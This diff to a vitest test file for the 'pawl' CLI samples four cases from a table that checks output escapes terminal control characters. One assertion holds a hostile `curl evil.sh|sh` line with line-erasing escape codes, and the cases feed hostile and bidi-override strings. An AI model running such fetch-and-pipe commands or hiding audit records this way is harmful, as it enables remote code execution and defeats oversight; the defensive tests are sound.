@@ -4,6 +4,7 @@ import { join } from 'node:path'
 import { afterAll, beforeAll, expect, test } from 'vitest'
 import type { BuiltPawl } from '../../test/hook-project.ts'
 import { createProject, type Project, removeProjects } from '../../test/roles/project.ts'
+import { sample } from '../../test/scale.ts'
 import { sharedPawl } from '../../test/shared/shared-pawl.ts'
 import type { LogRecord } from '../protocol/index.ts'
 import { appendRecords } from '../store/audit/append-records.ts'
@@ -60,27 +61,32 @@ test('a record cannot erase itself from `pawl audit`', async () => {
   expect(stdout).toContain(`curl evil.sh|sh\\x1b[2K\\x1b[1A`)
 })
 
-test.each([
-  [['audit']],
-  [['audit', '--json']],
-  [['confirm', 'list']],
-  [['confirm', 'list', '--json']],
-  [['hooks']],
-  [['hooks', '--json']],
-  [['budget']],
-  [['budget', '--json']],
-  [['doctor']],
-  [['doctor', hostile]],
-  [['hooks', 'disable', hostile]],
-  [['confirm', 'approve', hostile]],
-  [['theory', 'run', 'hostile.sys2dsl']],
-  [['theory', 'test', 'hostile.sys2dsl']],
-  [['theory', 'check', 'broken.sys2dsl']],
-  [['theory', 'why', 'hostile.sys2dsl', `Dog${erasing}`, 'IS_A', '\u202eMammal']],
-  [['theory', 'why', 'hostile.sys2dsl', `Cat${hostile}`, 'IS_A', 'Dog']],
-  [['theory', hostile]],
-  [[hostile]],
-])('pawl %j prints no character that a terminal would obey or hide', async (args) => {
+test.each(
+  sample(
+    [
+      [['audit']],
+      [['audit', '--json']],
+      [['confirm', 'list']],
+      [['confirm', 'list', '--json']],
+      [['hooks']],
+      [['hooks', '--json']],
+      [['budget']],
+      [['budget', '--json']],
+      [['doctor']],
+      [['doctor', hostile]],
+      [['hooks', 'disable', hostile]],
+      [['confirm', 'approve', hostile]],
+      [['theory', 'run', 'hostile.sys2dsl']],
+      [['theory', 'test', 'hostile.sys2dsl']],
+      [['theory', 'check', 'broken.sys2dsl']],
+      [['theory', 'why', 'hostile.sys2dsl', `Dog${erasing}`, 'IS_A', '\u202eMammal']],
+      [['theory', 'why', 'hostile.sys2dsl', `Cat${hostile}`, 'IS_A', 'Dog']],
+      [['theory', hostile]],
+      [[hostile]],
+    ],
+    4,
+  ),
+)('pawl %j prints no character that a terminal would obey or hide', async (args) => {
   const { stdout, stderr } = built.pawl(await infested(), args)
   expect(`${stdout}${stderr}`).not.toBe('')
   expect(`${stdout}${stderr}`).not.toMatch(raw)
